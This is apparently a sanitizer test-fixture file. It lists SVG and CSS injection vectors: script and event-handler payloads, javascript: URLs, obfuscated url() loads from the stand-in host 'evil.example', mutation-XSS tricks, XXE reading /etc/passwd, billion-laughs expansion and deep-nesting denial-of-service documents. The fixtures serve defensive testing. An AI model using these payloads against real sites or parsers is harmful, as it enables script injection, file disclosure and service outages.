/** Ways in which an SVG can run something or load something from elsewhere. Each contains `evil`, and must lose it. */
const host = '//evil.example';

const elements = [
  '<script>evil()</script>',
  '<script href="//evil.example/x.js"/>',
  '<script xlink:href="data:text/javascript,evil()"/>',
  '<svg:script xmlns:svg="http://www.w3.org/2000/svg">evil()</svg:script>',
  '<handler xmlns="http://www.w3.org/2001/xml-events" type="application/ecmascript">evil()</handler>',
  '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="evil()"/></foreignObject>',
  `<foreignObject><iframe src="${host}"/></foreignObject>`,
  `<foreignObject><img src="${host}" onerror="evil()"/></foreignObject>`,
  `<iframe xmlns="http://www.w3.org/1999/xhtml" src="${host}"/>`,
  `<object xmlns="http://www.w3.org/1999/xhtml" data="${host}"/>`,
  `<embed xmlns="http://www.w3.org/1999/xhtml" src="${host}"/>`,
  `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${host}"/>`,
  `<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${host}"/>`,
  `<base xmlns="http://www.w3.org/1999/xhtml" href="${host}/"/>`,
  `<audio xmlns="http://www.w3.org/1999/xhtml" src="${host}"/>`,
  `<video xmlns="http://www.w3.org/1999/xhtml" poster="${host}"/>`,
  `<form xmlns="http://www.w3.org/1999/xhtml" action="${host}"><button>x</button></form>`,
  '<path onclick="evil()"/>',
  '<path onbegin="evil()"/>',
  '<g onload="evil()"/>',
  '<animate onbegin="evil()" attributeName="x" dur="1s"/>',
  '<a href="javascript:evil()"><text>x</text></a>',
  '<a xlink:href="java&#10;script:evil()"><text>x</text></a>',
  `<a href="${host}"><text>x</text></a>`,
  `<image href="https:${host}/x.png"/>`,
  `<image xlink:href="${host}/x.png"/>`,
  '<image href="data:image/svg+xml,&lt;svg onload=&quot;evil()&quot;/&gt;"/>',
  '<image href="file:///etc/evil"/>',
  `<feImage href="${host}/x.png"/>`,
  `<use href="${host}/x.svg#a"/>`,
  '<use href="data:image/svg+xml;base64,ZXZpbA==#evil"/>',
  `<mpath href="${host}/x.svg#a"/>`,
  `<textPath href="${host}/x.svg#a">x</textPath>`,
  `<linearGradient href="${host}/x.svg#a"/>`,
  `<pattern xlink:href="${host}/x.svg#a"/>`,
  `<filter xlink:href="${host}/x.svg#a"/>`,
  `<tref xlink:href="${host}/x.svg#a"/>`,
  `<cursor xlink:href="${host}/x.cur"/>`,
  `<font-face-uri xlink:href="${host}/x.svg"/>`,
  `<color-profile xlink:href="${host}/x.icc"/>`,
  `<set attributeName="href" to="${host}"/>`,
  `<animate attributeName="xlink:href" values="#a;${host}"/>`,
  '<set attributeName="onclick" to="evil()"/>',
  `<animate attributeName="fill" to="url(${host})"/>`,
  '<animateTransform attributeName="href" from="javascript:evil()"/>',
  `<g xml:base="${host}/"><use href="#a"/></g>`,
  `<text xml:base="${host}/" xml:space="preserve">x</text>`,
  `<path fill="url(${host}#g)"/>`,
  `<path stroke="url('https:${host}/g')"/>`,
  `<path filter="URL( ${host} )"/>`,
  `<path mask="\\75rl(${host})"/>`,
  `<path clip-path="u\\rl(${host})"/>`,
  `<path cursor="image-set('${host}' 1x)"/>`,
  `<path marker-start="src('${host}')"/>`,
  `<path style="fill:url(${host})"/>`,
  `<path style="fill:\\75\\72\\6c(${host})"/>`,
  `<path style="background:image-set('${host}' 1x)"/>`,
  `<path style="mask:url(#a) url(${host})"/>`,
  `<path style="--x:url(${host});fill:var(--x)"/>`,
  `<path style="behavior:url(${host}/x.htc)"/>`,
  '<path style="width:expression(evil())"/>',
  `<desc><![CDATA[</desc><script>evil()</script>]]></desc>`,
  '<title><script>evil()</script></title>',
  '<style><![CDATA[</style><script>evil()</script>]]></style>',
  '<style></style><!--><img src=x onerror=evil()>--></style>',
  '<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><mglyph><style><img src=x onerror=evil()></style></mglyph></mtext></math>',
  '<switch><foreignObject requiredExtensions=""><p xmlns="http://www.w3.org/1999/xhtml" onclick="evil()">x</p></foreignObject></switch>',
  '<metadata><rdf xmlns="evil" onload="evil()"/></metadata>',
  '<discard onend="evil()"/>',
];

const stylesheets = [
  `@import "${host}/x.css";`,
  `@import url(${host}/x.css);`,
  `@\\69mport "${host}";`,
  `@font-face{font-family:x;src:url(${host}/x.woff)}`,
  `@namespace url(${host});`,
  `.a{fill:url(${host}#g)}`,
  `.a{fill:\\75rl(${host})}`,
  `.a{fill:u/**/rl(${host})}`,
  `.a{background:image-set("${host}/x.png" 1x)}`,
  `.a{background:-webkit-image-set(url(${host}/x.png) 1x)}`,
  `.a{content:image("${host}")}`,
  `.a{cursor:src("${host}")}`,
  `.a{--x:url(${host});fill:var(--x)}`,
  `.a{fill:var(--y,url(${host}))}`,
  `@media screen{.a{fill:url(${host})}}`,
  `@supports (fill:red){.a{fill:url(${host})}}`,
  `@keyframes evil{to{fill:url(${host})}}`,
  `.a{.b{fill:url(${host})}}`,
  `@layer x{.a{mask:url(${host})}}`,
  `@container (width>1px){.a{mask:url(${host})}}`,
  `@property --z{syntax:'<url>';inherits:true;initial-value:url(${host})}`,
  `@counter-style evil{system:cyclic;symbols:url(${host})}`,
  `.a{filter:url(${host}/x.svg#f)}`,
  `.a{behavior:url(${host}/x.htc)}`,
  `.a{-moz-binding:url(${host}/x.xml#b)}`,
  `.a{fill:url(${host}`,
];

export const svgVectors: string[] = [
  ...elements,
  ...stylesheets.flatMap((css) => [
    `<style><![CDATA[${css}]]></style>`,
    `<defs><style>${css.replaceAll('<', '&lt;')}</style></defs>`,
  ]),
];

export const wrapSvg = (content: string, prolog = '') =>
  `${prolog}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">${content}<path id="a" class="a" d="M0 0L9 9"/></svg>`;

const entities = (count: number) =>
  Array.from({ length: count }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join('');

/** Each level draws the level below ten times. */
const levels = (count: number, draw: (id: number) => string) =>
  Array.from(
    { length: count },
    (_, level) => `<g id="l${level}">${level ? draw(level - 1).repeat(10) : '<path/>'}</g>`,
  ).join('');

/** Documents that are refused, or lose what they would expand to or load. */
export const svgDocuments: Record<string, string> = {
  'an external entity': wrapSvg('<text>&x;</text>', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  'an external document type': wrapSvg('<text>&x;</text>', `<!DOCTYPE svg SYSTEM "http:${host}/x.dtd">`),
  'a parameter entity': wrapSvg('', `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http:${host}/x.dtd"> %x;]>`),
  'a billion laughs': wrapSvg('<text>&e9;</text>', `<!DOCTYPE svg [<!ENTITY e0 "lol">${entities(9)}]>`),
  'a stylesheet instruction': wrapSvg('', `<?xml-stylesheet href="${host}/x.css"?>`),
  'a stylesheet of XSLT': wrapSvg('', '<?xml-stylesheet type="text/xsl" href="#evil"?>'),
  'an inclusion': wrapSvg(
    `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`,
  ),
  'UTF-7': wrapSvg('+ADw-script+AD4-evil()+ADw-/script+AD4-', '<?xml version="1.0" encoding="UTF-7"?>'),
  'nested uses': wrapSvg(levels(9, (id) => `<use href="#l${id}"/>`)),
  'nested patterns': wrapSvg(levels(9, (id) => `<path fill="url(#l${id})"/>`)),
  'circular uses': wrapSvg('<use id="x" href="#y"/><use id="y" href="#x"/>'),
  '250,000 levels': wrapSvg(`${'<g>'.repeat(250_000)}${'</g>'.repeat(250_000)}`),
  '100,000 elements': wrapSvg('<path/>'.repeat(100_000)),
  'an attribute of a megabyte': wrapSvg(`<path d="${'M0 0'.repeat(300_000)}"/>`),
  'a stylesheet of many nested rules': wrapSvg(`<style>${'.a{'.repeat(20_000)}</style>`),
  '2,000 selectors for 2,000 elements': wrapSvg(
    `<style>${Array.from({ length: 2000 }, (_, id) => `g g g .c${id}{fill:url(#a)}`).join('')}</style>${'<g class="c1"/>'.repeat(2000)}`,
  ),
};
